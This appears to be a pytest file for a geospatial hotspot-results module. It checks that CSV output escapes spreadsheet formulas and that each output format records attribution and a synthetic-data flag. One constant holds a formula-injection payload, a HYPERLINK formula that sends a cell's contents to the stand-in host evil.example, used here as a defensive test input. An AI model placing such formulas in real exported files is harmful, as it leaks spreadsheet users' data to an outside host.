"""analysis.hotspots.result files: formula-safe CSV (issue #7), attribution and synthetic flag
(issue #4)."""

from __future__ import annotations

import json
from pathlib import Path

import geopandas as gpd
import pandas as pd
import shapely

from analysis.hotspots.result import finalise, params_path, read_hotspots, write_hotspots

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _hostile_result() -> gpd.GeoDataFrame:
    gdf = gpd.GeoDataFrame(
        {"n_events": [3, 1], "top_categories": [HOSTILE, "CSE (1)"], "z": [-2.5, 1.0]},
        geometry=[shapely.box(0, 0, 100, 100), shapely.box(100, 0, 200, 100)],
        crs=27700,
    )
    return finalise(gdf, method="demo", params={"alpha": 0.05})


def test_hotspots_csv_neutralises_formula_text(tmp_path: Path) -> None:
    path = write_hotspots(_hostile_result(), tmp_path / "h.csv")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert raw.loc[0, "top_categories"] == "'" + HOSTILE
    assert raw.loc[1, "top_categories"] == "CSE (1)"
    assert raw.loc[0, "z"] == "-2.5"  # negative numbers are not touched
    back = read_hotspots(path)
    assert back["z"].tolist() == [-2.5, 1.0]
    assert back.geometry.area.tolist() == [10000.0, 10000.0]
    assert json.loads(params_path(path).read_text())["alpha"] == 0.05


def test_every_hotspot_file_carries_attribution_and_synthetic_flag(tmp_path: Path) -> None:
    from geo.demo.records import SYNTHETIC_NOTICE
    from geo.places.datasets import ATTRIBUTION_LINES

    res = _hostile_result()
    for suffix in (".geojson", ".gpkg", ".csv"):
        for synthetic in (False, True):
            path = write_hotspots(res, tmp_path / f"h{int(synthetic)}{suffix}", synthetic=synthetic)
            if suffix == ".geojson":
                written = json.loads(path.read_text())["csmap_parameters"]
            elif suffix == ".csv":
                written = json.loads(params_path(path).read_text())
            else:
                import pyogrio

                table = pyogrio.read_dataframe(path, layer="csmap_parameters")
                written = {
                    k: json.loads(v) for k, v in zip(table["key"], table["value_json"], strict=True)
                }
            assert written["attribution"] == list(ATTRIBUTION_LINES)
            assert written["synthetic"] is synthetic
            assert (written.get("synthetic_notice") == SYNTHETIC_NOTICE) is synthetic
            back = read_hotspots(path)
            # the method's parameters round-trip unchanged; the notice sits beside them
            assert back.attrs["csmap_params"] == res.attrs["csmap_params"]
            assert back.attrs["csmap_notice"]["synthetic"] is synthetic
            assert back.attrs["csmap_notice"]["attribution"] == list(ATTRIBUTION_LINES)
            # re-writing a read-back result keeps the flag without the caller repeating it
            again = write_hotspots(back, tmp_path / f"again{int(synthetic)}.geojson")
            assert json.loads(again.read_text())["csmap_parameters"]["synthetic"] is synthetic
